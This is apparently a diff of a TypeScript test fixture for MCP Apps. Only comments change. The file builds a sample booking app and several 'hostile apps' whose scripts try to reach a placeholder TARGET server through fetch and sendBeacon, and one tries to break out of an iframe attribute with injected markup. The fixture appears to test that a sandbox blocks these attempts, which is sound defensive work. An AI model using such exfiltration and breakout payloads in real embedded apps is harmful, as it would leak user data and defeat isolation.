@@ -1,6 +1,6 @@
-/** mcp-app-documents.ts: documents of MCP Apps for tests: one that uses everything, and hostile ones. */
+/** mcp-app-documents.ts: documents of MCP Apps for tests: an app that uses everything, and hostile apps. */
 
-/** The beginning of each script: requests to the page, and messages about the size. */
+/** The beginning of each script: functions for requests to the page and for messages about the size. */
 const BRIDGE = `
   const waiting = new Map()
   const heard = []
@@ -24,12 +24,12 @@ const BRIDGE = `
   }
 `
 
-/** An app with this markup and script, which can use the functions above. */
+/** Creates an app with this markup and script. The script can use the functions of BRIDGE. */
 export function createApp(body: string, script: string): string {
   return `<!doctype html><meta charset="utf-8"><title>App</title>${body}<script>${BRIDGE}${script}</script>`
 }
 
-/** Shows the result of its call. Its buttons open a link, send a message and call a tool of its server. */
+/** An app that shows the result of its call. Its buttons open a link, send a message and call a tool of its server. */
 export const BOOKING_APP = `<!doctype html><meta charset="utf-8"><title>Booking</title>
 <style>
   :root { color-scheme: light dark; font: 15px/1.5 system-ui, sans-serif }
@@ -72,7 +72,7 @@ export const BOOKING_APP = `<!doctype html><meta charset="utf-8"><title>Booking<
 /** The height that a hostile app requests after its attempt, in CSS pixels. */
 export const ATTEMPTED_HEIGHT = 321
 
-/** What a hostile app tries. `TARGET` is a server that must get no request. */
+/** The attempts of hostile apps. `TARGET` is a server that must get no request. */
 const ATTEMPTS: Readonly<Record<string, string>> = {
   fetches: `fetch("TARGET/fetch").catch(() => {})`,
   "sends a beacon": `navigator.sendBeacon("TARGET/beacon", "x")`,
@@ -109,7 +109,7 @@ const ATTEMPTS: Readonly<Record<string, string>> = {
   "breaks out of its attribute": `document.body.insertAdjacentHTML("beforeend", "</iframe><img src=TARGET/broken>")`,
 }
 
-/** Documents that try one thing each, by what they try. They use `target` for their requests. */
+/** Creates documents that make one attempt each, with the name of the attempt. They send their requests to `target`. */
 export function createHostileApps(target: string): (readonly [string, string])[] {
   return Object.entries(ATTEMPTS).map(([what, script]) => {
     const attempt = script.replaceAll("TARGET", target)
